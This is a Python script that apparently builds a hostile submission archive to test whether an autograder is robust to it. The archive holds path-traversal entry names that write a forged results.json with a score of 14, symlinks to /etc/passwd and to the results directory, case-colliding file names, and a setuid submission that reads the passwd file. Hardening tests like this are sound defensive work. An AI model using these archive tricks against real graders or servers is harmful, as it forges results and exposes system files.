import stat
import zipfile
from pathlib import Path

RIGHT = (Path(__file__).parent.parent / "right-torch" / "submission.py").read_text()
WRONG = "\n\ndef A_matrix(alpha):\n    return open('passwd').read()\n"
FORGED = '{"score": 14, "output": "slipped", "tests": []}'
NAMES = [
    "../../results/results.json", "/tmp/autograder-attack/results/results.json", "a/../../../slipped",
    "..\\..\\slipped", "C:\\slipped", "C:slipped", "//slipped", "./../slipped", "a/b/../../../slipped",
    "\u2025/\u2025/slipped", "..%2f..%2fslipped", "/proc/self/environ", "a/./../../slipped", "...//...//slipped",
]


def make(folder):
    with zipfile.ZipFile(folder / "submission.zip", "w") as archive:
        for name in NAMES:
            archive.writestr(zipfile.ZipInfo(name), FORGED)
        for name, target in (("passwd", "/etc/passwd"), ("link", "/tmp/autograder-attack/results"), ("d", "..")):
            link = zipfile.ZipInfo(name)
            link.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(link, target)
        archive.writestr("link/results.json", FORGED)
        archive.writestr("d/slipped", FORGED)
        archive.writestr("SUBMISSION.PY", "0/0")
        archive.writestr("Submission.py", "0/0")
        setuid = zipfile.ZipInfo("submission.py")
        setuid.external_attr = (stat.S_IFREG | stat.S_ISUID | stat.S_ISGID | 0o777) << 16
        archive.writestr(setuid, RIGHT + WRONG)
    return folder / "submission.zip"
